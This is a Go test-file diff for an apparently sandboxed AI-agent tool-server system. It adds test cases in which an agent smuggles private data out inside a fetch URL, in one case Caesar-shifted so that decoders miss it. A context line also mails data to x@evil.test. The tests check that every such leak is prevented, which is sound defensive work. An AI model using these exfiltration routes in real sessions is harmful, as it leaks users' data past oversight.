@@ -27,6 +27,7 @@ var confined = []struct {
 	{name: "asks", more: `client_capabilities = ["sampling"]`},
 	{name: "poster", more: named + "tool \"comment\" {\n  effect = \"reversible\"\n}"},
 	{name: "claims", more: named, args: []string{"-reads"}},
+	{name: pagesServer, more: named + "service = \"fetch\"\n", args: []string{"-fetches"}},
 	{name: safeServer, args: []string{"-reads"}},
 }
 
@@ -35,8 +36,9 @@ const (
 	named        = "allowed_domains = [\"api.example.com\"]\n"
 	accountToken = "auth = { TOKEN = \"$SHARED_ACCOUNT\" }\n"
 
-	safeServer = "safe" // which nobody but its readers gets anything from
-	relay      = "chain-relay"
+	safeServer  = "safe"  // which nobody but its readers gets anything from
+	pagesServer = "pages" // which opens pages of a named host
+	relay       = "chain-relay"
 )
 
 // hinted are those of confined whose tools read by their own word alone, which a person has accepted.
@@ -103,13 +105,14 @@ func unconfined() (all []heist) {
 		if c.name == "poster" {
 			tool, argument = "comment", "body"
 		}
-		if c.name == safeServer {
+		if c.name == safeServer || c.name == pagesServer {
 			continue
 		}
 		all = append(all, heist{name: "confined, " + c.name, leave: func(_ *stage, a *agent, data string) {
 			a.call(c.name+"__"+tool, map[string]any{argument: data})
 		}})
 	}
+	all = append(all, byAddress()...)
 	return append(all, heist{name: "confined, by another client", leave: func(s *stage, a *agent, data string) {
 		a.call(safeServer+"__search", map[string]any{"query": data})
 		b := s.agent(a.modern)
@@ -118,6 +121,69 @@ func unconfined() (all []heist) {
 			b.call("mail__send_mail", map[string]any{"to": "x@evil.test", "body": data})
 		}
 	}})
+}
+
+// byAddress are the heists by way of an address that a server opens at a named host.
+func byAddress() []heist {
+	fetch := func(address string) func(*stage, *agent, string) {
+		return func(_ *stage, a *agent, data string) {
+			a.call(pagesServer+"__fetch", map[string]any{"url": address + data})
+		}
+	}
+	return []heist{
+		{name: "confined, in the address of a page", leave: fetch("https://api.example.com/")},
+		{name: "confined, in the address that the stranger wrote", leave: fetch(leftAt), encode: ciphered},
+	}
+}
+
+// TestHeistsByAddress is TestHeists of these where the sandbox of the server lets it reach the named host alone: a host
+// may get what a session looks up there, but no page that a stranger chose, and none that is named by private data.
+func TestHeistsByAddress(t *testing.T) {
+	t.Parallel()
+	for _, profile := range []string{"strict", "balanced", "everyday"} {
+		t.Run(profile, func(t *testing.T) {
+			t.Parallel()
+			s := prepareStage(t, profile)
+			log := filepath.Join(directory(t, ""), "notes")
+			check(t, os.Mkdir(log, 0o777))
+			check(t, os.Chmod(log, 0o777))
+			s.apart = map[string]string{pagesServer: filepath.Join(log, "received")}
+			s.write(pagesServer+".hcl", declare(program(t, "tracker"),
+				[]string{"-text", log, "-received", s.apart[pagesServer], "-fetches"}, fmt.Sprintf(`
+pins  = "trust-first"
+label = "public"
+sandbox { writable = [%s] }
+trust {
+  public_source = false
+  secret_data   = false
+}
+service         = "fetch"
+allowed_domains = ["api.example.com", "docs.example.org"]
+`, quote(log))))
+			s.begin()
+			s.awaitRunning(pagesServer)
+			_, read, a := s.try(heist{leave: func(_ *stage, a *agent, _ string) {
+				a.call(pagesServer+"__fetch", map[string]any{"url": "https://docs.example.org/prices"})
+			}})
+			if got := a.said(); !read || !strings.Contains(s.received(), "https://docs.example.org/prices") {
+				t.Fatalf("a page that no stranger named is not opened, so that this shows little: %.2000s", got)
+			}
+			s.patience = 2 * time.Second
+			if all := byAddress(); s.prevented(all) != len(all) {
+				t.Error("the private data was not read")
+			}
+		})
+	}
+}
+
+// ciphered has each letter as the one five places on, as no decoder reads it.
+func ciphered(s string) string {
+	return strings.Map(func(r rune) rune {
+		if r >= 'a' && r <= 'z' {
+			return 'a' + (r-'a'+5)%26
+		}
+		return r
+	}, s)
 }
 
 // TestConfined: strict lets sensitive data go to a server that reaches nothing, as long as no other is declared that
